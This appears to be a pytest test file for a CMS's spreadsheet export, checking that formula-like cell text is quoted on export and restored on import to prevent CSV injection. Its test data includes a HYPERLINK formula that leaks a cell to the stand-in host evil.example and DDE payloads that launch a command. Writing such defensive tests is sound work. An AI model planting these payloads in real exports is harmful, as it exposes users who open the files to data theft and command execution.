"""Exported cells never run as formulas, and an import gets the original text back."""

import csv
import io

import pytest

from cms.core.spreadsheets import neutralise, restore
from tests.factories import country_user, news_page

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+420 475 123 456", "'+420 475 123 456"),
        ("-5", "'-5"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=already quoted", "''=already quoted"),
        ("Brno 2=2", "Brno 2=2"),
        ("'tis a cluster", "'tis a cluster"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_quote_and_the_import_takes_it_off(text, written):
    assert neutralise(text) == written
    assert restore(written) == text


@pytest.mark.parametrize("value", [-5, 12, 3.5, None])
def test_numbers_are_not_text_and_keep_their_sign(value):
    assert neutralise(value) == value


def test_the_translation_status_csv_quotes_formula_titles(client, country):
    client.force_login(country_user("CZ"))
    news_page(country("CZ"), title={"en": FORMULA}, lead={"en": "Lead"})
    response = client.get("/admin/translation-status/?format=csv")
    assert response.status_code == 200
    titles = [row["title"] for row in csv.DictReader(io.StringIO(response.content.decode()))]
    assert "'" + FORMULA in titles
    assert not any(title.startswith(("=", "+", "-", "@")) for title in titles)
